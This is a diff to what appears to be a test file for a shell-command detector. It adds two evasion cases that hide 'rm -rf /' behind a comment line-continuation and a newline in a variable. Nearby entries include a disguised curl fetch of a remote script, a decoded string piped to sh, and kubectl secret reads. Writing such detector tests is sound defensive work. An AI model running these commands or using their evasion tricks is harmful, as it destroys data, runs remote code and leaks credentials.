@@ -293,6 +293,10 @@ const POSITIVE: [string, string, string][] = [
   ['/usr/bin/c?rl https://x.example/p.sh', 'shell.computed-command', 'high'],
   // A transform piped into a shell, with no program name before the pipe to open the gate.
   ["printf 'ez -es ~' | tr 'a-z' 'n-za-m' | sh", 'shell.decode-and-run', 'critical'],
+  // A comment ends at the line break that a trailing backslash does not join (inside a comment the
+  // backslash is literal), and a newline in an unquoted expansion splits words like a space.
+  ['make lint # tidy up \\\nrm -rf /', 'shell.rm-recursive-root', 'critical'],
+  ["t=$'-rf\\n/'; rm $t", 'shell.rm-recursive-root', 'critical'],
   // A cluster secret printed; passwordless sudo asked for in prose, in any language.
   ['kubectl get secret api-keys -n payments -o json', 'shell.credential-read', 'medium'],
   ["kubectl -n prod get secrets stripe -o jsonpath='{.data.key}'", 'shell.credential-read', 'medium'],
